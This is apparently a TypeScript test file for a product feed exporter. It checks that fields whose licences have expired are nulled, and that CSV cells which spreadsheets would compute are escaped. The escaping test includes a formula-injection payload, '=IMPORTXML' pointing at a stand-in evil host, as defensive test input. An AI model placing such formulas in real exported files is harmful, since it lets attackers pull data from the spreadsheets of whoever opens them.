import fc from "fast-check";
import { expect, it } from "vitest";
import { feedFile } from "../../../../../lambdas/common/core/feeds/feed-file.ts";
import { licenceBook } from "../../../../../lambdas/common/core/licences/licence-book.ts";
import { licensedProduct } from "../../../../../lambdas/common/core/licences/licensed-product.ts";
import { SOURCE_LICENCES } from "../../../../../lambdas/common/core/licences/source-licences.ts";
import { withoutEnded } from "../../../../../lambdas/common/core/licences/without-ended.ts";
import { SOURCE_IDS } from "../../../../../lambdas/common/core/source-ids.ts";
import { aProduct } from "../../../../helpers/products.ts";
import { NOON } from "../../../../helpers/rows.ts";
import { testRuns } from "../../../../helpers/test-runs.ts";
import { testSeed } from "../../../../helpers/test-seed.ts";

const SEED = testSeed("feeds and licences");
const DAY_MS = 24 * 3_600_000;
const SHOWN = { title: "title", price: "current_price", image_url: "image_url", url: "detail_page_url" } as const;
const origin = fc.tuple(fc.constantFrom(...SOURCE_IDS), fc.integer({ min: 0, max: 3 * DAY_MS }));

it("a feed has no field at its end or after it, says until when it is good, and names the end of what is gone", () => {
  const book = licenceBook();
  let ended = 0;
  fc.assert(
    fc.property(fc.array(origin, { minLength: 4, maxLength: 4 }), fc.boolean(), (drawn, isPublic) => {
      const fields = Object.values(SHOWN);
      const product = aProduct({
        provenance: Object.fromEntries(
          fields.map((field, index) => {
            const [source, ageMs] = drawn[index] ?? ["keepa", 0];
            return [field, { source, fetched_at: new Date(NOON - ageMs).toISOString() }];
          }),
        ),
      });
      const seen = licensedProduct(withoutEnded(product, book, NOON), book, { public: isPublic });
      const entry = { asin: product.asin, sku: null, marketplace: product.marketplace, product: seen };
      const file = feedFile("json", "n", [entry], book);
      const [item] = JSON.parse(file.body).items;
      const ends = Object.entries(SHOWN).map(([column, field]) => {
        const from = product.provenance[field];
        const seconds = from && SOURCE_LICENCES[from.source].store_seconds;
        const endMs = from && seconds ? Date.parse(from.fetched_at) + seconds * 1_000 : Number.POSITIVE_INFINITY;
        if (endMs <= NOON) {
          ended += 1;
          expect(item[column], column).toBeNull();
          expect(item.expired_at).not.toBeNull();
        }
        return item[column] === null ? Number.POSITIVE_INFINITY : endMs;
      });
      // Prices stand beside the age of what is shown, however long after it the product was asked for again.
      const ages = Object.entries(SHOWN).flatMap(([column, field]) =>
        item[column] === null ? [] : (product.provenance[field]?.fetched_at ?? []),
      );
      expect(item.as_of).toBe(ages.sort()[0] ?? null);
      const first = Math.min(...ends);
      if (Number.isFinite(first)) expect(Date.parse(file.validUntil ?? "")).toBeLessThanOrEqual(first);
    }),
    { numRuns: testRuns(300), seed: SEED },
  );
  expect(ended).toBeGreaterThan(50);
});

it("cells that a spreadsheet would compute are made safe", () => {
  const product = licensedProduct(aProduct({ title: '=IMPORTXML("https://evil.example")' }), licenceBook());
  const entry = { asin: product.asin, sku: "@sum", marketplace: product.marketplace, product };
  const { body } = feedFile("csv", "n", [entry], licenceBook());
  expect(body).toContain("'=IMPORTXML");
  expect(body).toContain("'@sum");
  expect(body.startsWith("asin,sku,marketplace,title")).toBe(true);
});
